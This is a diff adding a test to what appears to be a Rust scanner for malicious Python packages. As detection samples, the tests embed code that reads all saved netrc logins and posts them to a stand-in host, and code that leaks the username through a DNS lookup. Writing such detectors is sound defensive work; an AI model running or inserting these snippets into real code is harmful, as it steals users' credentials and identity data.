@@ -473,6 +473,15 @@ mod tests {
     use crate::rules::testing::{findings, max_severity};
 
     #[test]
+    fn saved_netrc_logins_sent_away_are_stolen() {
+        let dump = "import netrc, requests\nlogins = netrc.netrc().hosts\nrequests.post('https://x.invalid/c', json=logins)\n";
+        assert!(max_severity("p/pkg/__init__.py", dump, "WH200") >= 0.7);
+        let own =
+            "import netrc\ndef login_for(host):\n    return netrc.netrc().authenticators(host)\n";
+        assert!(max_severity("p/pkg/auth.py", own, "WH200") < 0.1);
+    }
+
+    #[test]
     fn a_name_resolving_tool_given_host_data_sends_it() {
         let ping = "import getpass, subprocess\nsubprocess.run(['ping', '-c', '1', getpass.getuser() + '.x.example-oast.net'])\n";
         assert!(max_severity("p/pkg/__init__.py", ping, "WH200") >= 0.7);
